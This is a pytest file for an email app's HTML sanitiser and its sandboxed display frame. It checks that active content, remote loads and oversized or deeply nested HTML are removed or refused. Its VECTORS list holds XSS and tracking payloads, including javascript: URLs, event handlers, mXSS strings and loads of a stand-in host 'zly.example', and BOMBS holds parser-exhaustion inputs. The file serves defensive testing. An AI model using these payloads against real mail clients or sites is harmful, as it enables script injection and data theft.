"""HTML of strangers: what acts is gone, what is read stays."""

import pytest

from archive.worker import Worker
from tests.webapp.furniture import letter
from webapp.html_mail import LARGEST, LARGEST_CLEAN, TooMuchHtml, safe_html

VECTORS = [
    "<script>steal()</script>",
    "<p onclick='steal()'>x</p>",
    "<img src=x onerror=steal()>",
    "<a href='JaVaScript:steal()'>x</a>",
    "<a href='java\nscript:steal()'>x</a>",
    "<a href='data:text/html,<script>steal()</script>'>x</a>",
    "<svg><a xlink:href='javascript:steal()'>x</a></svg>",
    "<style>@import 'https://zly.example/steal.css'</style>",
    "<div style='background:url(https://zly.example/steal)'>x</div>",
    "<table background='https://zly.example/steal'><tr><td>x</td></tr></table>",
    "<base href='https://zly.example/steal/'>",
    "<meta http-equiv='refresh' content='0;url=https://zly.example/steal'>",
    "<form action='https://zly.example/steal'><input name=haslo></form>",
    "<iframe src='https://zly.example/steal'></iframe>",
    "<object data='https://zly.example/steal'></object><embed src='steal'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=steal()&gt;'>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<link rel=stylesheet href='https://zly.example/steal.css'>",
    "<template><script>steal()</script></template>",
    "<img src='file:///steal'><img src='//zly.example/steal'><img srcset='https://zly.example/steal 2x'>",
    "<video src='https://zly.example/steal' autoplay></video><audio src='steal'></audio>",
    "<!--[if mso]><script>steal()</script><![endif]-->",
    "<p id='steal' class='steal' name='steal'>x</p>",
]


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("remote", [False, True])
def test_nothing_acts(vector, remote):
    assert "steal" not in safe_html(f"<p>Dzień dobry</p>{vector}", {}, remote=remote).html


def test_what_people_write_stays():
    html = "<h1>Oferta</h1><p>Cena <b>1 000 zł</b></p><table><tr><td colspan=2>Piec</td></tr></table>"

    clean = safe_html(html, {}).html

    assert "<h1>Oferta</h1>" in clean and "<b>1 000 zł</b>" in clean and 'colspan="2"' in clean


def test_links_leave_the_frame_without_telling_where_from():
    clean = safe_html('<a href="https://bank.example/x">Bank</a>', {}).html

    assert 'target="_blank"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean


def test_remote_images_are_counted_and_left_out_until_asked_for():
    html = '<img src="https://a.example/1.gif" alt="logo"><img src="HTTP://b.example/2.gif">'

    blocked, shown = safe_html(html, {}), safe_html(html, {}, remote=True)

    assert (blocked.remote_images, "example" in blocked.html) == (2, False)
    assert 'alt="logo"' in blocked.html
    assert "https://a.example/1.gif" in shown.html


def test_inline_images_come_out_of_the_letter_itself():
    clean = safe_html(
        '<img src="cid:logo@klos"><img src="cid:inny">', {"logo@klos": "data:image/png;base64,AA"}
    ).html

    assert 'src="data:image/png;base64,AA"' in clean
    assert "cid:" not in clean


def test_too_large_is_not_read():
    with pytest.raises(TooMuchHtml):
        safe_html("x" * (LARGEST + 1), {})


@pytest.mark.parametrize("opening", ["<div>", "<b>", "<div/>", "<DIV x='>'>", "<table><tr><td>", "<div></x>"])
def test_too_deep_is_not_read(opening):
    with pytest.raises(TooMuchHtml):
        safe_html(opening * 2560, {})


def test_a_page_that_grows_beyond_reason_is_not_shown():
    picture = {"logo@klos": "data:image/png;base64," + "A" * 1_000_000}

    with pytest.raises(TooMuchHtml):
        safe_html('<img src="cid:logo@klos">' * (LARGEST_CLEAN // 1_000_000), picture)


@pytest.mark.parametrize("address", ["https://a[:b@zly.example/1.gif", " \nhttps:zly.example/1.gif"])
def test_an_odd_address_is_a_remote_one_too(address):
    assert "zly" not in safe_html(f'<img src="{address}">', {}).html


def test_a_long_letter_is_not_a_deep_one():
    assert "koniec" in safe_html("<div>wiersz<br></div>" * 2000 + "<p>koniec</p>", {}).html


# In the frame


def test_the_frame_is_a_cage(anna_here, things):
    answer = anna_here.get(f"/messages/{things.filed}/html")

    policy = answer.headers["Content-Security-Policy"]
    assert "sandbox allow-popups allow-popups-to-escape-sandbox" in policy and "allow-scripts" not in policy
    assert "img-src data:;" in policy and "frame-ancestors 'self'" in policy
    assert "steal" not in answer.text and "sledzenie" not in answer.text
    assert "Nie pokazano 1 obrazka z innego serwera." in answer.text
    assert 'src="data:image/png;base64,' in answer.text


def test_the_style_of_the_cage_is_the_one_its_policy_names(anna_here, things):
    import base64
    import hashlib
    import re

    answer = anna_here.get(f"/messages/{things.filed}/html")
    style = re.search("<style>(.*?)</style>", answer.text, re.DOTALL)[1]

    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert f"style-src 'sha256-{digest}'" in answer.headers["Content-Security-Policy"]


def test_images_are_shown_for_one_letter_when_asked_for(anna_here, things):
    answer = anna_here.get(f"/messages/{things.filed}/html?images=1")

    assert "https://sledzenie.example/1.gif" in answer.text
    assert "img-src data: https: http:;" in answer.headers["Content-Security-Policy"]
    assert answer.headers["Referrer-Policy"] == "no-referrer"


def test_a_letter_without_html_has_no_frame(anna_here, things):
    assert anna_here.get(f"/messages/{things.waiting}/html").status_code == 404
    assert "<iframe" not in anna_here.get(f"/messages/{things.waiting}").text


BOMBS = {
    "deep": b"<div>" * 5000,
    "bogus end tags": b"<div></x>" * 60_000,
    "formats left open": b"<p><font color=red>" * 12_800,
    "long formats": b'<p><font color="' + b"x" * 1_000_000 + b'">' + b"<p>x" * 100,
    "attributes": b"<p " + b" ".join(b"a%d=1" % number for number in range(200_000)) + b">",
}


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_html_that_cannot_be_shown_is_told_of_and_its_text_shown(site, anna_here, things, bomb):
    site.office.html_worker = Worker(seconds=1)
    message_id = _letter_of_html(site, bomb, "x-nieznany")

    with site.office.html_worker:
        answer = anna_here.get(f"/messages/{message_id}/html")
        next_one = anna_here.get(f"/messages/{things.filed}/html")

    assert "Ten HTML jest za duży lub zbyt zagnieżdżony" in answer.text
    assert "<pre>Dzień dobry,\nprzesyłam cenę" in answer.text
    assert len(answer.data) < 5000 and things.number not in answer.text
    assert "<b>oferta</b>" in next_one.text


def test_tags_that_never_close_are_read_like_any(site, anna_here, things):
    answer = anna_here.get(f"/messages/{_letter_of_html(site, b'<p>Cena</p>' + b'<a' * 20_000)}/html")

    assert "<p>Cena</p>" in answer.text


@pytest.mark.parametrize("charset", ["punycode", "zlib", "idna", None])
def test_a_charset_that_is_none_for_mail_is_guessed(site, anna_here, things, charset):
    message_id = _letter_of_html(site, "<p>Dzień dobry</p>".encode(), charset)

    assert "<p>Dzień dobry</p>" in anna_here.get(f"/messages/{message_id}/html").text


def _letter_of_html(site, content, charset="utf-8"):
    with site.writing() as session:
        made = letter(session, site.office.store, 7, "Dziwna", with_html=True)
        part = next(part for part in made.parts if part.is_html_body)
        part.digest, part.charset = site.office.store.put(content), charset
        return made.id


def test_new_text_is_plain_and_quoted_text_is_folded(anna_here, things):
    page = anna_here.get(f"/messages/{things.filed}").text

    new, quoted = page.split("<summary>Cytowany tekst</summary>")
    assert "przesyłam cenę" in new and "Prosimy o cenę." not in new
    assert "&gt; Prosimy o cenę." in quoted
    assert 'href="https://piece.example/cennik"' in new


def test_the_original_is_byte_for_byte(site, anna_here, things):
    from tests.webapp.furniture import EML

    answer = anna_here.get(f"/messages/{things.filed}/original")

    assert answer.data == EML
    assert answer.content_type == "message/rfc822"
    assert answer.headers["Content-Disposition"].startswith("attachment;")
